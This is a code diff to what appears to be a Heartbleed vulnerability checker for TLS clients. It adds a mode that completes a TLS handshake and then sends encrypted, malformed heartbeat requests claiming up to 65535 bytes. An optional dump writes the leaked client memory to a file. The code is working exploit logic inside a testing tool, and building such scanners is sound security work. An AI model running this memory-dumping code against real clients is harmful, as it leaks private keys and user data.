@@ -24,8 +24,11 @@ import io.heartguard.wire.heartbeat.HeartbeatProbe;
 import io.heartguard.wire.record.ContentType;
 import io.heartguard.wire.record.ProtocolVersion;
 import io.heartguard.wire.record.RecordException;
+import io.heartguard.wire.record.RecordHeader;
 import io.heartguard.wire.record.RecordReader;
 import io.heartguard.wire.record.TlsRecord;
+import io.heartguard.wire.tls.TlsException;
+import io.heartguard.wire.tls.TlsServerSession;
 import java.io.ByteArrayOutputStream;
 import java.io.EOFException;
 import java.io.IOException;
@@ -34,6 +37,7 @@ import java.io.OutputStream;
 import java.net.InetSocketAddress;
 import java.net.Socket;
 import java.net.SocketTimeoutException;
+import java.security.SecureRandom;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.SplittableRandom;
@@ -49,6 +53,12 @@ import java.util.SplittableRandom;
  * Before the Certificate its write state is still plaintext, and a client that verifies certificates has not yet
  * rejected ours. Its answers go through its 4096-byte handshake buffer ({@code ssl3_connect} calls
  * {@code ssl_init_wbio_buffer} too), which is why the oracle's two answers are both over 4 KB.
+ *
+ * <p>With {@code --after-handshake} the flight goes out whole, the handshake is completed ({@link TlsServerSession},
+ * RSA key exchange) and the same two requests go out protected, as {@code scan --after-handshake} sends them: this
+ * finds clients that answer heartbeats only inside a session, and makes the encrypted attack heartleech made against
+ * servers, turned on a client. Inside the session no buffer holds an answer back, so a dump's requests claim the
+ * full 65535 bytes, their answers cut into records of at most 2^14 bytes and joined here.
  */
 final class ClientCheck {
   /** The host name STARTTLS greetings announce; RFC 2606's .invalid resolves nowhere. */
@@ -59,6 +69,8 @@ final class ClientCheck {
   private static final int MAX_SKIPPED_RECORDS = 64;
   /** A dump's request: a 16-byte payload claiming a one-record answer, 2^14 − 3 − 16 (as scan's dump). */
   static final int DUMP_PAYLOAD_LENGTH = (1 << 14) - 3 - 16;
+  /** A dump's request inside the session: the most payload_length can claim (RFC 6520 section 4: uint16). */
+  static final int SESSION_DUMP_PAYLOAD_LENGTH = 0xffff;
   private static final int DUMP_SENT_BYTES = 16 + 16;
 
   private final Socket socket;
@@ -71,6 +83,10 @@ final class ClientCheck {
   private OutputStream out;
   private String address;
   private ClientHello hello;
+  /** The ClientHello message, header included, for the handshake transcript. */
+  private byte[] helloMessage;
+  /** With --after-handshake, once the handshake is complete: every record from the client is opened through it. */
+  private TlsServerSession session;
 
   ClientCheck(Socket socket, ClientTestOptions options, long seed) {
     this.socket = socket;
@@ -120,6 +136,9 @@ final class ClientCheck {
       return report(Verdict.INCONCLUSIVE, "client offers heartbeats but " + refusal.reason(), 0);
     }
     ServerHelloFlight.Flight flight = (ServerHelloFlight.Flight) answer;
+    if (options.afterHandshake()) {
+      return decideInSession(flight);
+    }
     HeartbeatOracle oracle = new HeartbeatOracle(flight.version(), random);
     ByteArrayOutputStream write = new ByteArrayOutputStream();
     write.writeBytes(flight.records().get(0)); // ServerHello
@@ -135,6 +154,73 @@ final class ClientCheck {
     return report(outcome.verdict(), outcome.reason(), outcome.bytesLeaked());
   }
 
+  /**
+   * --after-handshake: the whole flight, the rest of the handshake, then the oracle's two requests protected in one
+   * write; the client's answers are opened and judged as before the handshake.
+   */
+  private ClientReport decideInSession(ServerHelloFlight.Flight flight) throws IOException, RecordException {
+    sendAnswerWithoutProbe(flight);
+    TlsServerSession handshake;
+    try {
+      handshake = TlsServerSession.afterServerHelloDone(flight.version(), flight.cipherSuite(),
+          options.identity().privateKey(), hello.version(), hello.random(), flight.serverRandom(), helloMessage,
+          flight.records(), new SecureRandom());
+    } catch (TlsException e) {
+      send(alertRecord(flight.version(), new Alert(Alert.FATAL, Alert.HANDSHAKE_FAILURE)));
+      return report(Verdict.INCONCLUSIVE, "client offers heartbeats but " + e.getMessage(), 0);
+    }
+    String failed = completeHandshake(handshake, flight.version());
+    if (failed != null) {
+      return report(Verdict.INCONCLUSIVE, failed, 0);
+    }
+    session = handshake;
+    HeartbeatOracle oracle = new HeartbeatOracle(flight.version(), random);
+    List<byte[]> requests = oracle.requestMessages(true);
+    ByteArrayOutputStream write = new ByteArrayOutputStream();
+    write.writeBytes(session.seal(ContentType.HEARTBEAT, requests.get(0)));
+    write.writeBytes(session.seal(ContentType.HEARTBEAT, requests.get(1)));
+    send(write.toByteArray());
+    HeartbeatOracle.ProbeOutcome outcome = readAnswers(oracle);
+    String where = outcome.verdict() == Verdict.INCONCLUSIVE ? ""
+        : " (encrypted, after a " + flight.version().displayName() + " handshake with " + session.suite().ianaName() + ")";
+    if (outcome.verdict() == Verdict.VULNERABLE && options.dumpFile() != null) {
+      String dumped = dump(flight.version());
+      return report(outcome.verdict(), outcome.reason() + where + "; " + dumped, outcome.bytesLeaked());
+    }
+    return report(outcome.verdict(), outcome.reason() + where, outcome.bytesLeaked());
+  }
+
+  /**
+   * The client's ClientKeyExchange, ChangeCipherSpec and Finished, and our answer; null once the session is
+   * established, else why not. Plaintext heartbeats the client sends meanwhile are skipped, not answered.
+   */
+  private String completeHandshake(TlsServerSession handshake, ProtocolVersion version) throws IOException, RecordException {
+    for (int skipped = 0; skipped <= MAX_SKIPPED_RECORDS; ) {
+      TlsRecord record = nextRecord();
+      if (record == null) {
+        return "client closed the connection during the handshake";
+      }
+      switch (record.type()) {
+        case HANDSHAKE, CHANGE_CIPHER_SPEC -> {
+          try {
+            send(handshake.receive(record));
+          } catch (TlsException e) {
+            send(alertRecord(version, new Alert(Alert.FATAL, Alert.HANDSHAKE_FAILURE)));
+            return "full handshake failed: " + e.getMessage();
+          }
+          if (handshake.established()) {
+            return null;
+          }
+        }
+        case ALERT -> {
+          return "client sent alert " + describeAlert(record.fragment()) + " during the handshake";
+        }
+        default -> skipped++;
+      }
+    }
+    return "more than " + MAX_SKIPPED_RECORDS + " records from the client during the handshake, none completing it";
+  }
+
   /** The client's records after our flight, in order, until one decides. */
   private HeartbeatOracle.ProbeOutcome readAnswers(HeartbeatOracle oracle) throws IOException, RecordException {
     for (int skipped = 0; skipped <= MAX_SKIPPED_RECORDS; skipped++) {
@@ -147,6 +233,20 @@ final class ClientCheck {
       }
       if (record == null) {
         return inconclusive(Failure.CLOSED, "client closed the connection answering neither heartbeat request");
+      }
+      if (session != null) {
+        try {
+          record = opened(record);
+        } catch (TlsException e) {
+          return inconclusive(Failure.PROTOCOL, "a protected record from the client does not open: " + e.getMessage());
+        }
+        if (record.type() == ContentType.APPLICATION_DATA) {
+          continue; // written before the client read our requests (records are processed in order)
+        }
+        if (record.type() == ContentType.HANDSHAKE) {
+          return inconclusive(Failure.PROTOCOL,
+              "client sent a handshake message inside the session answering neither heartbeat request");
+        }
       }
       switch (record.type()) {
         case HEARTBEAT -> {
@@ -181,20 +281,22 @@ final class ClientCheck {
   private String dump(ProtocolVersion version) throws IOException, RecordException {
     long written = 0;
     int answers = 0;
+    int claimed = session == null ? DUMP_PAYLOAD_LENGTH : SESSION_DUMP_PAYLOAD_LENGTH;
     try (LeakFile file = LeakFile.create(options.dumpFile())) {
       for (int i = 0; i < options.dumpRequests(); i++) {
         byte[] payload = new byte[16];
         random.nextBytes(payload);
         HeartbeatMessage request = new HeartbeatMessage(HeartbeatMessageType.REQUEST, Bytes.of(payload),
             Bytes.repeat(0, HeartbeatFrame.MIN_PADDING));
-        byte[] malformed = HeartbeatProbe.withDeclaredPayloadLength(request, DUMP_PAYLOAD_LENGTH);
-        send(new TlsRecord(ContentType.HEARTBEAT, version, Bytes.of(malformed)).toByteArray());
-        byte[] answer = nextHeartbeatResponse();
+        byte[] malformed = HeartbeatProbe.withDeclaredPayloadLength(request, claimed);
+        send(session == null ? new TlsRecord(ContentType.HEARTBEAT, version, Bytes.of(malformed)).toByteArray()
+            : session.seal(ContentType.HEARTBEAT, malformed));
+        byte[] answer = session == null ? nextHeartbeatResponse(payload) : nextHeartbeatResponseInSession(payload);
         if (answer == null) {
           break;
         }
         int from = HeartbeatFrame.HEADER_LENGTH + DUMP_SENT_BYTES;
-        int to = Math.min(answer.length, HeartbeatFrame.HEADER_LENGTH + DUMP_PAYLOAD_LENGTH);
+        int to = Math.min(answer.length, HeartbeatFrame.HEADER_LENGTH + claimed);
         if (to > from) {
           file.write(answer, from, to - from);
           written += to - from;
@@ -208,18 +310,84 @@ final class ClientCheck {
     return "dumped " + written + " bytes from " + answers + " answers to " + options.dumpFile();
   }
 
-  private byte[] nextHeartbeatResponse() throws IOException, RecordException {
+  /**
+   * The answer to the request that carried {@code payload}; other heartbeat records (the client's own requests, the
+   * oracle's control answered after the probe decided) are skipped.
+   */
+  private byte[] nextHeartbeatResponse(byte[] payload) throws IOException, RecordException {
     for (int skipped = 0; skipped <= MAX_SKIPPED_RECORDS; skipped++) {
       TlsRecord record = nextRecord();
       if (record == null || record.type() != ContentType.HEARTBEAT) {
         return null;
       }
       byte[] bytes = record.fragment().toByteArray();
-      if (bytes.length > 0 && bytes[0] == HeartbeatMessageType.RESPONSE.code()) {
+      if (answers(bytes, payload)) {
         return bytes;
       }
     }
     return null;
+  }
+
+  /** Whether {@code message} is a heartbeat response echoing {@code payload} first. */
+  private static boolean answers(byte[] message, byte[] payload) {
+    return message.length >= HeartbeatFrame.HEADER_LENGTH + payload.length
+        && message[0] == HeartbeatMessageType.RESPONSE.code()
+        && java.util.Arrays.equals(message, HeartbeatFrame.HEADER_LENGTH, HeartbeatFrame.HEADER_LENGTH + payload.length,
+            payload, 0, payload.length);
+  }
+
+  /**
+   * Inside the session: the answer to the request that carried {@code payload}, joined from its records
+   * (ssl3_write_bytes cuts it at 2^14 bytes), or null when it does not come; at most 3 + 65535 + 16 + 2^14 bytes are
+   * held.
+   */
+  private byte[] nextHeartbeatResponseInSession(byte[] payload) throws IOException, RecordException {
+    byte[] message = null;
+    int length = 0;
+    for (int skipped = 0; skipped <= MAX_SKIPPED_RECORDS; ) {
+      TlsRecord record = nextRecord();
+      if (record == null) {
+        return null;
+      }
+      byte[] plaintext;
+      try {
+        plaintext = opened(record).fragment().toByteArray();
+      } catch (TlsException e) {
+        return null;
+      }
+      if (record.type() != ContentType.HEARTBEAT) {
+        skipped++;
+        continue;
+      }
+      if (message == null) {
+        if (!answers(plaintext, payload)) {
+          skipped++; // the client's own request, or the oracle's control answered after the probe decided
+          continue;
+        }
+        int declared = ((plaintext[1] & 0xff) << 8) | (plaintext[2] & 0xff);
+        // RFC 6520 section 4: payload_length bytes of payload, then at least 16 of padding; one record more at most.
+        message = new byte[HeartbeatFrame.HEADER_LENGTH + declared + HeartbeatFrame.MIN_PADDING + RecordHeader.MAX_PLAINTEXT];
+      }
+      if (length + plaintext.length > message.length) {
+        java.util.Arrays.fill(message, (byte) 0);
+        return null; // more than a response of that length can hold
+      }
+      System.arraycopy(plaintext, 0, message, length, plaintext.length);
+      length += plaintext.length;
+      java.util.Arrays.fill(plaintext, (byte) 0);
+      int declared = ((message[1] & 0xff) << 8) | (message[2] & 0xff);
+      if (length >= HeartbeatFrame.HEADER_LENGTH + declared + HeartbeatFrame.MIN_PADDING) {
+        byte[] whole = java.util.Arrays.copyOf(message, length);
+        java.util.Arrays.fill(message, (byte) 0);
+        return whole;
+      }
+    }
+    return null;
+  }
+
+  /** A record from the client opened through the session: same type and version, its plaintext as fragment. */
+  private TlsRecord opened(TlsRecord record) throws TlsException {
+    return new TlsRecord(record.type(), record.version(), session.open(record));
   }
 
   private void sendAnswerWithoutProbe(ServerHelloFlight.Answer answer) throws IOException {
@@ -248,6 +416,7 @@ final class ClientCheck {
         if (message.type() != HandshakeType.CLIENT_HELLO) {
           throw new HandshakeException("first handshake message has type " + message.typeCode() + ", expected client_hello (1)");
         }
+        helloMessage = message.toByteArray();
         return ClientHello.parse(message.body());
       }
     }
